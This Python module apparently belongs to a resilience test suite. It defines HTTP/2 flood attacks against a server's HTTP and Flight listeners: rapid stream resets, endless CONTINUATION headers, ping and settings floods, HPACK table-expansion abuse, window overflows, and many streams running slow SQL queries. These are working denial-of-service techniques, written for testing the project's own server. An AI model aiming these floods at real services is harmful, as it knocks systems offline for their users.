"""HTTP/2 floods of individually valid frames to the HTTP and Flight listeners."""

import struct
import time
from contextlib import suppress

import hpack

import wire
from registry import at_once, attack, drop

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, AWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
    )


def head(target, path="/livez", **others):
    fields = [
        (":method", "POST" if "Flight" in path else "GET"),
        (":scheme", "http"),
        (":path", path),
        (":authority", f"localhost:{target.http[1]}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *others.items(),
    ]
    return hpack.Encoder().encode(fields, huffman=False)


CALL = "/arrow.flight.protocol.FlightService/ListFlights"


def calls():
    """The numbers of a client's calls."""
    return range(1, 1 << 31, 2)


def resets(target, path):
    told = head(target, path)
    for stream in calls():
        yield frame(HEADERS, END_HEADERS, stream, told) + frame(
            RESET, 0, stream, struct.pack(">I", 8)
        )


def calls_without_end(target, path):
    told = head(target, path)
    for stream in calls():
        yield frame(HEADERS, END_HEADERS, stream, told)


def pings(target, path):
    while True:
        yield frame(PING, 0, 0, b"12345678")


def settings(target, path):
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 20)


def table_sizes(target, path):
    for number in calls():
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, number % 0xFFFFFFFF))


def continuations(target, path):
    yield frame(HEADERS, 0, 1, head(target, path))
    more = hpack.Encoder().encode([("x-more", "x" * 1000)] * 10, huffman=False)
    while True:
        yield frame(CONTINUATION, 0, 1, more)


def empty_continuations(target, path):
    yield frame(HEADERS, 0, 1, head(target, path))
    while True:
        yield frame(CONTINUATION, 0, 1)


def empty_data(target, path):
    yield frame(HEADERS, END_HEADERS, 1, head(target, CALL))
    while True:
        yield frame(DATA, 0, 1)


def windows(target, path):
    yield frame(HEADERS, END_HEADERS, 1, head(target, path))
    while True:
        yield frame(WINDOW, 0, 0, struct.pack(">I", 1)) + frame(WINDOW, 0, 1, struct.pack(">I", 1))


def overflowing_windows(target, path):
    while True:
        yield frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF))


def priorities(target, path):
    for stream in calls():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 255))


def expanding_heads(target, path):
    """A field of 4 KiB that each head names thousands of times by its place in the table."""
    long = b"\x40\x01a" + b"\x7f" + hpack_length(4000 - 127) + b"x" * 4000
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head(target, path) + long)
    for stream in calls():
        if stream > 1:
            yield frame(
                HEADERS, END_HEADERS | END_STREAM, stream, head(target, path) + b"\xbe" * 8000
            )


def hpack_length(rest):
    told = b""
    while rest >= 128:
        told += bytes([rest % 128 + 128])
        rest //= 128
    return told + bytes([rest])


def unknown_frames(target, path):
    for kind in calls():
        yield frame(10 + kind % 240, kind % 256, kind % 3, bytes(kind % 64))


def away(target, path):
    while True:
        yield frame(AWAY, 0, 0, struct.pack(">II", 0, 0) + bytes(1000))


def open_frames(address_of, target):
    connection = wire.connect(address_of(target), target.source, is_unread=True)
    tls = target.tls("h2")
    connection = tls.wrap_socket(connection) if tls else connection
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def flood(frames, is_read):
    """A function that floods both listeners of HTTP/2, and reads what they answer, or does not."""

    def work(target):
        ends_s = time.monotonic() + target.size(0.7, 15)
        listeners = (
            (lambda target: target.http, "/livez"),
            (lambda target: target.flight, CALL),
        )

        def client(number):
            address_of, path = listeners[number % 2]
            while time.monotonic() < ends_s:
                # Until the server ends the connection, and then again.
                with suppress(OSError), open_frames(address_of, target) as connection:
                    pour(connection, frames(target, path), ends_s, is_read)

        at_once(target.size(4, 8), client)

    return work


def pour(connection, frames, ends_s, is_read):
    sent = b""
    for one in frames:
        sent += one
        if len(sent) < 1 << 15:
            continue
        connection.settimeout(max(0.05, ends_s - time.monotonic()))
        connection.sendall(sent)
        sent = b""
        if time.monotonic() >= ends_s:
            return
        if is_read:
            connection.settimeout(0.001)
            with suppress(TimeoutError):
                connection.recv(1 << 16)


FLOODS = {
    "calls that are begun and reset at once": (resets, True),
    "calls that are begun and never ended": (calls_without_end, True),
    "pings whose answers are not read": (pings, False),
    "settings whose answers are not read": (settings, False),
    "sizes of the table of heads": (table_sizes, False),
    "heads that never end": (continuations, True),
    "heads that never end, of empty frames": (empty_continuations, True),
    "empty frames of data": (empty_data, True),
    "windows that grow by one": (windows, True),
    "windows that overflow": (overflowing_windows, True),
    "priorities": (priorities, True),
    "heads that expand": (expanding_heads, True),
    "frames of unknown types": (unknown_frames, True),
    "farewells": (away, True),
}
for words, (frames, is_read) in FLOODS.items():
    attack(f"a flood of HTTP/2: {words}")(flood(frames, is_read))

# Of a connection; a server lets fewer of them begin.
STREAMS = 200
# Joins all with all, so that it takes its time.
SLOW = "SELECT count(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b WHERE a.value + b.value < 0"
# Small enough to be made at once, and too large for the window that the client opens.
SMALL = "SELECT repeat('x', 16000) AS x"


def ask_at_once(target, sql, connections, window):
    """Asks on as many streams as there may be, and reads nothing of the answers."""
    told = head(target, wire.sql_path(sql))
    asked = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, told) for number in range(STREAMS)
    )
    kept = []

    def client(_):
        connection = open_frames(lambda target: target.http, target)
        kept.append(connection)
        # The window of each stream.
        connection.sendall(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + asked)

    at_once(connections, client)
    target.hold(target.sql_time_s + 0.3, 2 * target.sql_time_s)
    drop(kept)


@attack("hundreds of requests on each of many connections of HTTP/2, for queries that take their time")
def slow_streams(target):
    ask_at_once(target, SLOW, target.size(20, 100), 65535)


@attack("hundreds of small answers on each of many connections of HTTP/2, which nobody reads")
def unread_streams(target):
    ask_at_once(target, SMALL, target.size(20, 200), 0)
